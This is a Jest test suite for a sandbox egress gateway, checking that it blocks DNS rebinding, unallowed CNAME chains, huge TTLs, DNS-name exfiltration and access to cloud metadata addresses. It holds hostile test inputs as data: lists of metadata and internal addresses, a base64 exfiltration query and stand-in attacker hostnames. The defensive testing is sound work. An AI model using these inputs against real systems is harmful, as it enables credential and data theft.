// Issue 14, items 3-5: a hostile upstream DNS server (tools/fixtures/hostile-dns.ts, on loopback)
// and a guest that uses DNS against the policy: rebinding allowed names into the host's loopback
// or private networks, CNAME chains through names nobody allowed, huge TTLs, names as an
// exfiltration channel, and cloud metadata addresses outside 169.254/16.
import http from 'node:http';
import net from 'node:net';
import { spawnSync } from 'node:child_process';
import {
  EgressPolicy,
  hostResolver,
  startGateway,
  type DeniedAttempt,
  type Gateway,
  type GatewayOptions,
} from '../src';
import { startHostileDns, type HostileDns } from '../../../tools/fixtures/hostile-dns';
import { TestNetwork } from './helpers/netns';

jest.setTimeout(60_000);

const GW = '192.168.127.1';
const PUBLIC = '203.0.113.7';
/** Metadata services of the big clouds that are not in 169.254.0.0/16, IPv4 and IPv6. */
const METADATA = [
  '100.100.100.200',
  '168.63.129.16',
  '192.0.0.192',
  'fd00:ec2::254',
  'fd20:ce::254',
  'fd00:42::42',
  '169.254.169.254',
  'fe80::a9fe:a9fe',
];
/** Addresses an answer must never open by itself: loopback, private, CGNAT, link-local, the guest network. */
const INTERNAL = [
  '127.0.0.1',
  '127.1.2.3',
  '10.1.2.3',
  '172.16.5.5',
  '192.168.1.1',
  '192.168.127.1',
  '100.64.0.1',
  '169.254.169.254',
  '0.0.0.1',
];

let hostile: HostileDns;
const upstream = (): ReturnType<typeof hostResolver> => hostResolver({ servers: [hostile.server], timeoutMs: 500 });

beforeAll(async () => {
  hostile = await startHostileDns();
});
afterAll(() => hostile.close());
beforeEach(() => {
  hostile.queries.length = 0;
  for (const k of Object.keys(hostile.table)) delete hostile.table[k];
});

describe('policy', () => {
  test('cloud metadata addresses are denied under --net and under CIDRs that cover everything', () => {
    for (const policy of [new EgressPolicy({}), new EgressPolicy({ allowCidrs: ['0.0.0.0/0', '::/0'] })]) {
      for (const a of METADATA)
        expect([a, policy.check(a)]).toEqual([
          a,
          { allowed: false, reason: expect.stringMatching(/metadata|link-local/) },
        ]);
      expect(policy.check(PUBLIC).allowed).toBe(true);
    }
    // Written as an IPv4-mapped IPv6 address, too.
    expect(new EgressPolicy({}).check('::ffff:100.100.100.200').allowed).toBe(false);
  });

  test('an allowed name that resolves to loopback, private, CGNAT, link-local or guest-network addresses opens none of them', async () => {
    INTERNAL.forEach((a, i) => (hostile.table[`evil${i}.test`] = { a: [a] }));
    hostile.table['mixed.test'] = { a: ['127.0.0.1', PUBLIC] };
    const warnings: string[] = [];
    const p = await EgressPolicy.create(
      { allowHosts: [...INTERNAL.map((_a, i) => `evil${i}.test`), 'mixed.test'] },
      upstream(),
      { onWarning: (w) => warnings.push(w) },
    );
    for (const a of INTERNAL) expect([a, p.check(a).allowed]).toEqual([a, false]);
    expect(p.check(PUBLIC).allowed).toBe(true);
    expect(warnings).toContainEqual(
      expect.stringMatching(/evil0\.test resolves to 127\.0\.0\.1\b.*--allow-cidr 127\.0\.0\.1\/32/),
    );
  });

  test('only an explicit CIDR opens an internal address (--outbound-localhost-only, --allow-cidr)', async () => {
    hostile.table['evil.test'] = { a: ['127.0.0.1', '10.1.2.3'] };
    const p = await EgressPolicy.create({ allowHosts: ['evil.test'], allowCidrs: ['127.0.0.0/8', '::1'] }, upstream());
    expect(p.check('127.0.0.1').allowed).toBe(true);
    expect(p.check('10.1.2.3').allowed).toBe(false);
  });

  test('addresses learned from answers skip internal ranges, and a huge TTL is cut to 300 s', () => {
    let now = 1_000_000;
    const p = new EgressPolicy({ allowHosts: ['cdn.test'] }, { now: () => now });
    p.learn([
      { address: '127.0.0.1', ttl: 300 },
      { address: '10.9.9.9', ttl: 300 },
      { address: PUBLIC, ttl: 0x7fffffff },
    ]);
    expect(p.check('127.0.0.1').allowed).toBe(false);
    expect(p.check('10.9.9.9').allowed).toBe(false);
    now += 299_000;
    expect(p.check(PUBLIC).allowed).toBe(true);
    now += 2_000;
    expect(p.check(PUBLIC)).toEqual({ allowed: false, reason: expect.stringMatching(/expired/) });
  });

  test('a CNAME chain is followed only through allowed names', async () => {
    hostile.table['alias.test'] = { cname: 'tracker.attacker.test' };
    hostile.table['tracker.attacker.test'] = { a: ['203.0.113.66'] };
    hostile.table['www.test'] = { cname: 'www.test.cdn.test' };
    hostile.table['www.test.cdn.test'] = { a: ['203.0.113.77'] };
    const warnings: string[] = [];
    const p = await EgressPolicy.create({ allowHosts: ['alias.test', 'www.test', 'www.test.cdn.test'] }, upstream(), {
      onWarning: (w) => warnings.push(w),
    });
    expect(p.check('203.0.113.66').allowed).toBe(false);
    expect(p.check('203.0.113.77').allowed).toBe(true);
    expect(warnings).toContainEqual(
      expect.stringMatching(/alias\.test is an alias of tracker\.attacker\.test.*--allow-host tracker\.attacker\.test/),
    );
  });

  test('with CIDRs only (or --outbound-localhost-only) no name is allowed', () => {
    expect(new EgressPolicy({ allowCidrs: ['10.0.0.0/8'] }).allowsName('secret.exfil.test')).toBe(false);
    expect(new EgressPolicy({ allowCidrs: ['127.0.0.0/8', '::1'] }).allowsName('secret.exfil.test')).toBe(false);
    expect(new EgressPolicy({ allowCidrs: ['10.0.0.0/8'], allowHosts: ['ok.test'] }).allowsName('ok.test')).toBe(true);
    expect(new EgressPolicy({}).allowsName('anything.test')).toBe(true); // --net: full outbound, DNS included
  });
});

const describeRoot = TestNetwork.available() ? describe : describe.skip;

describeRoot('gateway with a namespace as the guest and a hostile upstream', () => {
  let tn: TestNetwork;
  let gw: Gateway | undefined;
  let A: string;
  const denied: DeniedAttempt[] = [];
  const servers: http.Server[] = [];
  let loopPort = 0;
  let httpPort = 0;

  const listen = (host: string, body: string, port = 0): Promise<number> => {
    const server = http.createServer((_q, res) => res.end(body));
    servers.push(server);
    return new Promise((resolve) =>
      server.listen(port, host, () => resolve((server.address() as net.AddressInfo).port)),
    );
  };
  const curl = (url: string) => tn.exec('curl', ['-sS', '-m', '10', url]);
  const nslookup = (name: string) => tn.exec('busybox', ['nslookup', name, GW]);

  async function useGateway(options: Partial<GatewayOptions>): Promise<void> {
    await gw?.close();
    denied.length = 0;
    gw = await startGateway({ policy: {}, resolver: upstream(), onDenied: (d) => denied.push(d), ...options });
    gw.attach(tn.tap.link());
  }

  beforeAll(async () => {
    tn = TestNetwork.create('d');
    A = tn.hostAddresses[0];
    loopPort = await listen('127.0.0.1', 'host loopback');
    httpPort = await listen(A, 'public');
    // Metadata addresses live on this suite's own link, so nothing here leaves the machine
    // even when the gateway lets a connection through.
    for (const a of ['100.100.100.200', '168.63.129.16']) {
      spawnSync('ip', ['addr', 'add', `${a}/32`, 'dev', tn.dummy]);
      await listen(a, `metadata ${a}`, httpPort);
    }
  });

  afterAll(async () => {
    await gw?.close();
    for (const s of servers) s.close();
    tn?.cleanup();
  });

  test('--allow-cidr and --outbound-localhost-only: a name never reaches the upstream (no DNS exfiltration)', async () => {
    for (const allowCidrs of [[`${A}/32`], ['127.0.0.0/8', '::1']]) {
      await useGateway({ policy: { allowCidrs } });
      const r = await nslookup('c2VjcmV0.exfil.test');
      expect(hostile.queries).toEqual([]);
      expect(r.stdout + r.stderr).toMatch(/REFUSED|NXDOMAIN/);
      expect(denied).toContainEqual(expect.objectContaining({ protocol: 'dns', destination: 'c2vjcmv0.exfil.test' }));
    }
  });

  test('--allow-host evil.test (-> 127.0.0.1): the host loopback stays closed through 192.168.127.1', async () => {
    hostile.table['evil.test'] = { a: ['127.0.0.1'], ttl: 0x7fffffff };
    await useGateway({ policy: { allowHosts: ['evil.test'] } });
    const r = await curl(`http://${GW}:${loopPort}/`);
    expect(r.stdout).not.toContain('host loopback');
    expect(r.code).toBe(7);
    expect(denied).toContainEqual(
      expect.objectContaining({ protocol: 'tcp', destination: `127.0.0.1 (via gateway)`, port: loopPort }),
    );
  });

  test('rebinding an allowed name after start: internal addresses are cut from the answer and stay closed', async () => {
    hostile.table['rebind.test'] = { a: [A] };
    await useGateway({ policy: { allowHosts: ['rebind.test'] } });
    hostile.table['rebind.test'] = { a: ['127.0.0.1', '10.0.0.1', '169.254.169.254'] };
    const r = await nslookup('rebind.test');
    expect(r.stdout).not.toMatch(/Address: (127\.0\.0\.1|10\.0\.0\.1|169\.254)/);
    expect(denied).toContainEqual(
      expect.objectContaining({
        protocol: 'dns',
        destination: 'rebind.test',
        reason: expect.stringMatching(/127\.0\.0\.1/),
      }),
    );
    expect((await curl(`http://${GW}:${loopPort}/`)).code).toBe(7);
    expect((await curl(`http://${A}:${httpPort}/`)).stdout).toBe('public'); // the start-time address still works
  });

  test('an allowed name that is an alias of an unallowed name is not answered', async () => {
    hostile.table['alias.test'] = { cname: 'tracker.attacker.test' };
    hostile.table['tracker.attacker.test'] = { a: [A] };
    await useGateway({ policy: { allowHosts: ['alias.test'] } });
    const r = await nslookup('alias.test');
    expect(r.stdout).not.toContain(`Address: ${A}`);
    expect((await curl(`http://${A}:${httpPort}/`)).code).toBe(7);
    expect(denied).toContainEqual(
      expect.objectContaining({
        protocol: 'dns',
        destination: 'alias.test',
        reason: expect.stringMatching(/tracker\.attacker\.test/),
      }),
    );
    expect(hostile.queries.map((q) => q.name)).not.toContain('tracker.attacker.test');
  });

  test('--net: metadata addresses outside 169.254/16 are refused at once and reported', async () => {
    await useGateway({ policy: {} });
    for (const a of ['100.100.100.200', '168.63.129.16']) {
      const r = await curl(`http://${a}:${httpPort}/`);
      expect([a, r.stdout, r.code]).toEqual([a, '', 7]);
      expect(denied).toContainEqual(
        expect.objectContaining({ protocol: 'tcp', destination: a, reason: expect.stringMatching(/metadata/) }),
      );
    }
  });
});
